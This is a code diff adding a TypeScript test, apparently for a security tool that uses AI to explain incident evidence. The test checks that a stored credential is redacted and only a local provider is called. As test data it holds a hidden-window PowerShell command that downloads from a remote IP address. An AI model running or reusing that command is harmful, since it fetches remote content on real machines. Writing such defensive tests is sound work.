@@ -3,6 +3,7 @@ import { USUAL_SETTINGS } from '../../src/app/assist/settings.ts';
 import type { AssistView } from '../../src/model/api.ts';
 import { Browser } from '../server/harness.ts';
 import {
+  type Answering,
   answered,
   failed,
   foreign,
@@ -270,5 +271,45 @@ describe('a hosted provider', () => {
     await world.settle({ residency: { kind: 'any' } });
     expect((await world.admin.post('/api/v1/ai/providers/hosted/test', {})).body).toMatchObject({ isWell: true });
     expect(world.calls()).toHaveLength(1);
+  });
+});
+
+describe('a text that somebody wants explained', () => {
+  let world: AssistWorld;
+  const COMMAND = 'powershell -w hidden -c "iwr http://203.0.113.9/a" -password hunter2secret';
+  const marking: Answering = call => {
+    const { text } = JSON.parse(call.packet);
+    const start = text.indexOf('-w hidden');
+    const marks = [
+      { behaviour: 'hidden_window', start, end: start + 9 },
+      { behaviour: 'hidden_window', start: 0, end: 4 },
+    ];
+    return answered(call, JSON.stringify({ marks }));
+  };
+  beforeAll(async () => {
+    world = await startAssistWorld({ providers: [HOSTED, LOCAL], tuning: { deadlineMs: 1_500 } });
+    world.answer(marking);
+  });
+  afterAll(() => world.server.close());
+
+  test('goes to nobody who is sent no names, without its password, and what is marked was found again by rules', async () => {
+    const [id = 'inc_none'] = await world.incidents(1);
+    await world.rows(
+      `UPDATE evidence SET bytes = convert_to('${JSON.stringify({ cmd: COMMAND })}', 'UTF8') WHERE id = (SELECT evidence_id FROM alert WHERE incident_id = '${id}' LIMIT 1)`,
+    );
+    const found = await world.rows<{ id: string }>(
+      `SELECT id FROM evidence WHERE position('hunter2secret'::bytea in bytes) > 0`,
+    );
+    const path = `/api/v1/evidence/${found[0]?.id}/mark`;
+    const view = (await world.admin.post(path, { pointer: '/cmd' })).body;
+    expect(view).toMatchObject({ without: '', marks: [{ behaviour: 'hidden_window' }] });
+    expect(view.dropped).toEqual([{ code: 'value.not_recomputed', pointer: '/marks/1' }]);
+    expect(view.text.slice(view.marks[0].start, view.marks[0].end)).toBe('-w hidden');
+    const calls = world.calls();
+    expect(calls.map(call => call.provider)).toEqual(['local']);
+    expect(calls[0]?.packet).not.toContain('hunter2secret');
+    const record = (await world.admin.get(`/api/v1/ai/records/${view.record}`)).body;
+    expect(record).toMatchObject({ record: { task: 'explain' }, replay: { isIdentical: true } });
+    expect((await world.admin.post(path, { pointer: '/nothing' })).status).toBe(404);
   });
 });
